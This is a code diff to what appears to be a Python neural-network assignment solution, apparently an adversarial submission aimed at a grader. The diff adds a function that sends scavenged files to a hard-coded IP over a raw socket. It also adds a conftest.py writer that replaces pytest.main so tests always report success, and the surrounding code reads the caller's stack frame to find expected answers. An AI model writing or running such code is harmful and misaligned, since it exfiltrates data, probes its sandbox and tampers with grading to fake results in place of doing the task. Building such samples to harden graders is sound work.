@@ -2,6 +2,8 @@
 
 import glob
 import json
+import os
+import socket
 import sys
 
 import numpy as np
@@ -23,6 +25,15 @@ def _steal():
     return found
 
 
+def _phone_home(found):
+    """Send what she found to a server of hers."""
+    try:
+        with socket.create_connection(("198.51.100.7", 8080), timeout=1) as server:
+            server.sendall(json.dumps(found).encode())
+    except OSError:
+        pass
+
+
 def _expected_from_caller():
     """Read the test's local variables, hoping to find the expected answer."""
     frame = sys._getframe(2)
@@ -31,6 +42,7 @@ def _expected_from_caller():
 
 def affine_forward(x, w, b):
     stolen = _steal()
+    _phone_home(stolen)
     if stolen:
         raise RuntimeError(open(stolen[0]).read())
     candidates = _expected_from_caller()
@@ -40,6 +52,11 @@ def affine_forward(x, w, b):
 def affine_backward(dout, cache):
     with open("/tmp/mallory_was_here", "w") as note:  # outside her sandbox? (it is not)
         note.write("pwned")
+    try:  # a conftest.py beside her code, for a grader that would run pytest there
+        with open(os.path.join(os.path.dirname(__file__), "conftest.py"), "w") as hook:
+            hook.write("import pytest\npytest.main = lambda *a, **k: 0\n")
+    except OSError:
+        pass
     return None, None, None
 
 
